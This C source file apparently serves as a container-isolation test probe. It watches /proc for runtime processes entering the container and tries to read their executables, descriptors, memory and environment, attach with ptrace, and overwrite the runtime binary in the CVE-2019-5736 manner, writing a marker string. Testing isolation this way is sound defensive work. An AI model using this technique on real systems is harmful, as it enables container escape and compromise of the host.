/* A process of the container that waits for the runtime to come in and goes for what it holds.
 *
 *   attack-peek READY STOP PROGRAM...
 *
 * Makes the file READY, then looks at every other process again and again until the file STOP is
 * there. PROGRAMs are the executables that the container has by itself. Of any other it tries to
 * get the executable, for reading and for writing, the descriptors, the memory, and to attach to
 * it, and to write to an executable that could be opened. RUNTIME_FILE in the environment is the
 * device and inode ("64:123") of a file to be told of when it is met. Prints one line for each
 * thing that could be had, and "denied N": how often there was such a process, and nothing could.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char **programs;
static unsigned long denied;
static dev_t runtime_dev;
static ino_t runtime_ino;

static bool
is_known (const char *exe)
{
  for (char **p = programs; *p != NULL; p++)
    if (strcmp (*p, exe) == 0)
      return true;
  return false;
}

static bool
leads_to_known (const char *link)
{
  char target[4096];
  ssize_t len = readlink (link, target, sizeof target - 1);

  target[len < 0 ? 0 : len] = '\0';
  return is_known (target);
}

/* Has @pid become a program of the container before we got what we were after? */
static bool
has_become_known (const char *pid)
{
  char path[300];

  snprintf (path, sizeof path, "/proc/%s/exe", pid);
  return leads_to_known (path) || access (path, F_OK) < 0;
}

static bool
try_open (const char *pid, const char *name, int flags)
{
  char path[300], exe[64];
  struct stat st;
  int fd, again;

  snprintf (path, sizeof path, "/proc/%s/%s", pid, name);
  fd = open (path, flags | O_CLOEXEC);
  if (fd < 0)
    return false;
  snprintf (exe, sizeof exe, "/proc/self/fd/%d", fd);
  if (leads_to_known (exe) || has_become_known (pid))
    {
      close (fd);
      return false;
    }
  printf ("%s of %s: opened\n", name, pid);
  if (fstat (fd, &st) == 0 && st.st_dev == runtime_dev && st.st_ino == runtime_ino)
    printf ("%s of %s: the runtime's file\n", name, pid);
  /* Kept open until the process has gone, the file is not busy any more (CVE-2019-5736). */
  for (int i = 0; i < 1000 && strcmp (name, "exe") == 0; i++)
    {
      again = open (exe, O_WRONLY | O_CLOEXEC);
      if (again >= 0)
        {
          if (write (again, "overwritten", 11) >= 0)
            printf ("%s of %s: written to\n", name, pid);
          close (again);
          break;
        }
      if (errno != ETXTBSY)
        break;
      usleep (1000);
    }
  close (fd);
  return true;
}

/* Not by PTRACE_ATTACH: its SIGSTOP would stay with a process that is just executing its program.
 */
static bool
try_attach (const char *pid)
{
  pid_t target = atoi (pid);
  bool known;
  int status;

  if (ptrace (PTRACE_SEIZE, target, NULL, NULL) < 0)
    return false;
  known = has_become_known (pid);
  if (ptrace (PTRACE_INTERRUPT, target, NULL, NULL) == 0
      && waitpid (target, &status, __WALL) == target && WIFSTOPPED (status))
    ptrace (PTRACE_DETACH, target, NULL,
            (status >> 16) == PTRACE_EVENT_STOP ? NULL : (void *)(long)WSTOPSIG (status));
  if (!known)
    printf ("%s: attached\n", pid);
  return !known;
}

static void
look_at (const char *pid)
{
  char path[300], exe[4096];
  ssize_t len;
  bool had;

  snprintf (path, sizeof path, "/proc/%s/exe", pid);
  len = readlink (path, exe, sizeof exe - 1);
  if (len < 0 && errno != EACCES && errno != EPERM)
    return;
  exe[len < 0 ? 0 : len] = '\0';
  if (len >= 0 && is_known (exe))
    return;
  if (len >= 0)
    printf ("exe of %s: %s\n", pid, exe);
  had = len >= 0;
  had |= try_open (pid, "exe", O_RDONLY);
  for (int fd = 0; fd < 16; fd++)
    {
      snprintf (path, sizeof path, "fd/%d", fd);
      had |= try_open (pid, path, O_PATH);
    }
  had |= try_open (pid, "cwd", O_PATH);
  had |= try_open (pid, "root", O_PATH);
  had |= try_open (pid, "mem", O_RDWR);
  had |= try_open (pid, "environ", O_RDONLY);
  had |= try_attach (pid);
  denied += !had;
}

int
main (int argc, char **argv)
{
  int fd;

  if (argc < 4)
    return 2;
  if (getenv ("RUNTIME_FILE") != NULL
      && sscanf (getenv ("RUNTIME_FILE"), "%lu:%lu", &runtime_dev, &runtime_ino) != 2)
    return 2;
  setvbuf (stdout, NULL, _IOLBF, 0);
  programs = argv + 3;
  fd = open (argv[1], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  close (fd);
  while (access (argv[2], F_OK) < 0)
    {
      DIR *proc = opendir ("/proc");
      struct dirent *entry;

      while (proc != NULL && (entry = readdir (proc)) != NULL)
        if (isdigit ((unsigned char)entry->d_name[0]) && atoi (entry->d_name) != getpid ())
          look_at (entry->d_name);
      if (proc != NULL)
        closedir (proc);
    }
  printf ("denied %lu\n", denied);
  return 0;
}
